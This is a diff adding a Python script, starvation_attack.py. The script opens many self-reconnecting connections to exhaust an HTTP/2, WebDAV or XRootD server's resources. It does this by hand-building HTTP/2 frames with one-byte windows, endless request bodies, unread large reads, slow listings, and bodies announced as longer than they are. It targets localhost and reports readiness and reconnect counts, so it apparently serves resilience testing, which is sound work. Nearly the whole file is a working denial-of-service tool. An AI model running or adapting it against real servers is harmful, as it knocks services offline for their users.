@@ -1,0 +1,183 @@
+"""A client that holds what a server has for everybody, and connects again when it is dropped: `starvation_attack.py KIND PORT ADDRESSES`.
+
+It says `ready` when all its connections have sent what they send, and how often it has connected again when it is ended.
+"""
+
+from __future__ import annotations
+
+import contextlib
+import json
+import select
+import signal
+import socket
+import struct
+import sys
+import time
+
+HOST = "127.0.0.1"
+FIRST_ADDRESS = 10
+"""Clients come from 127.0.0.10 and those after it."""
+DRIP_S = 1.0
+STREAMS = 128
+
+
+def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    """Of HTTP/2 (RFC 9113)."""
+    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload
+
+
+def literal(name: int, value: bytes) -> bytes:
+    """A header field of HPACK whose name is in the static table."""
+    return bytes([0x40 | name, len(value)]) + value
+
+
+def http2(method: bytes, path: bytes, has_body: bool = False) -> bytes:
+    """A connection with as many requests as it may have, and windows of one byte for their answers."""
+    settings = struct.pack(">HI", 4, 1)
+    opening = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0, settings) + frame(8, 0, 0, struct.pack(">I", (1 << 31) - 1 - 65535))
+    fields = literal(2, method) + b"\x86" + literal(1, b"x") + literal(4, path)
+    return opening + b"".join(frame(1, 4 if has_body else 5, stream, fields) for stream in range(1, 2 * STREAMS, 2))
+
+
+class Bodies:
+    """Bodies of all requests of an HTTP/2 connection, as far as its windows let them go. They do not end."""
+
+    LENGTH = 255 << 10
+
+    def __init__(self) -> None:
+        self.received = b""
+        self.initial = self.window = 65535
+        self.windows = dict.fromkeys(range(1, 2 * STREAMS, 2), self.initial)
+        self.left = dict.fromkeys(self.windows, self.LENGTH)
+
+    def take(self, received: bytes) -> None:
+        """Windows that the server opens."""
+        self.received += received
+        while len(self.received) >= 9 and len(self.received) >= 9 + (length := int.from_bytes(self.received[:3])):
+            kind, flags, stream = self.received[3], self.received[4], int.from_bytes(self.received[5:9])
+            payload, self.received = self.received[9 : 9 + length], self.received[9 + length :]
+            if kind == 4 and not flags & 1:
+                for at in range(0, length, 6):
+                    name, value = struct.unpack_from(">HI", payload, at)
+                    if name == 4:
+                        self.windows = {each: window + value - self.initial for each, window in self.windows.items()}
+                        self.initial = value
+            elif kind == 8 and stream == 0:
+                self.window += int.from_bytes(payload)
+            elif kind == 8 and stream in self.windows:
+                self.windows[stream] += int.from_bytes(payload)
+
+    def more(self) -> bytes:
+        """What may be sent now, a little of each."""
+        frames = []
+        for stream in self.windows:
+            length = min(16384, self.window, self.windows[stream], self.left[stream])
+            if length > 0:
+                frames.append(frame(0, 0, stream, b" " * length))
+                self.window -= length
+                self.windows[stream] -= length
+                self.left[stream] -= length
+        return b"".join(frames)
+
+
+def xroot(code: int, parameters: bytes = b"", body: bytes = b"", stream: int = 1, length: int | None = None) -> bytes:
+    """A request of the XRootD protocol; its body may be announced to be longer than it is."""
+    return struct.pack(">HH", stream, code) + parameters.ljust(16, b"\0") + struct.pack(">I", len(body) if length is None else length) + body
+
+
+LOGIN = struct.pack(">5I", 0, 0, 0, 4, 2012) + xroot(3006, struct.pack(">IBB", 0x520, 0, 0)) + xroot(3007, struct.pack(">I8sBBBB", 1, b"u", 0, 0, 4, 0))
+OPEN = xroot(3010, struct.pack(">HH", 0, 0x10), b"/long")
+READS = b"".join(xroot(3030, struct.pack(">IQI", 0, 0, 4 << 20), stream=stream) for stream in range(2, 102))
+PROPFIND = b"PROPFIND /many/ HTTP/1.1\r\nhost: x\r\ndepth: 1\r\n\r\n"
+ATTACKS = {
+    "closed windows": (20, lambda: http2(b"GET", b"/long")),
+    "untaken reads": (60, lambda: LOGIN + OPEN + READS),
+    "slow listings": (300, lambda: PROPFIND),
+    "long arguments": (64, lambda: LOGIN + xroot(3021, length=2 << 20)),
+    "unfinished bodies": (20, lambda: http2(b"PROPFIND", b"/", has_body=True)),
+    "open files": (5, lambda: LOGIN + OPEN * 4096),
+}
+"""By name: how many connections, and what each sends."""
+DRIPS = {"long arguments": b"/"}
+"""What goes on sending a byte now and then."""
+TAKES = {"closed windows", "unfinished bodies", "open files"}
+"""What takes all that comes: little, but for what it does not let come."""
+
+
+class Connection:
+    """One that is made again when it is dropped."""
+
+    def __init__(self, kind: str, port: int, address: str) -> None:
+        self.kind, self.port, self.address = kind, port, address
+        self.opened = -1
+        self.open()
+
+    def open(self) -> None:
+        self.opened += 1
+        self.socket = socket.socket()
+        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
+        self.socket.bind((self.address, 0))
+        self.socket.settimeout(5)
+        self.unsent = memoryview(ATTACKS[self.kind][1]())
+        self.bodies = Bodies() if self.kind == "unfinished bodies" else None
+        with contextlib.suppress(OSError):
+            self.socket.connect((HOST, self.port))
+        self.socket.setblocking(False)
+
+    def step(self, events: int, drips: bool) -> None:
+        """Goes on sending, takes what comes, or begins again."""
+        try:
+            if drips and not self.unsent:
+                self.unsent = memoryview(DRIPS.get(self.kind, b""))
+            if events & (select.POLLERR | select.POLLHUP | select.POLLRDHUP):
+                raise ConnectionError
+            if events & select.POLLOUT and self.unsent:
+                self.unsent = self.unsent[self.socket.send(self.unsent) :]
+            if events & select.POLLIN and self.kind in TAKES:
+                received = self.socket.recv(1 << 16)
+                if not received:
+                    raise ConnectionError
+                if self.bodies:
+                    self.bodies.take(received)
+            if self.bodies and not self.unsent:
+                self.unsent = memoryview(self.bodies.more())
+        except BlockingIOError:
+            pass
+        except OSError:
+            self.socket.close()
+            self.open()
+
+    def wanted(self) -> int:
+        """The events that it waits for."""
+        return select.POLLRDHUP | (select.POLLOUT if self.unsent else 0) | (select.POLLIN if self.kind in TAKES else 0)
+
+
+def main() -> None:
+    kind, port, addresses = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
+    number = max(ATTACKS[kind][0], addresses)
+    connections = [Connection(kind, port, f"127.0.0.{FIRST_ADDRESS + index % addresses}") for index in range(number)]
+
+    def end(*_: object) -> None:
+        print(json.dumps({"connections": number, "reconnects": sum(each.opened for each in connections)}), flush=True)
+        sys.exit(0)
+
+    signal.signal(signal.SIGTERM, end)
+    dripped, is_ready = time.monotonic(), False
+    while True:
+        poll = select.poll()
+        by_number = {each.socket.fileno(): each for each in connections}
+        for descriptor, each in by_number.items():
+            poll.register(descriptor, each.wanted())
+        ready = dict(poll.poll(200))
+        drips = time.monotonic() - dripped > DRIP_S
+        dripped = time.monotonic() if drips else dripped
+        for descriptor, each in by_number.items():
+            if drips or descriptor in ready:
+                each.step(ready.get(descriptor, 0), drips)
+        if not is_ready and (not ready or all(not each.unsent for each in connections)):
+            is_ready = True
+            print("ready", flush=True)
+
+
+if __name__ == "__main__":
+    main()
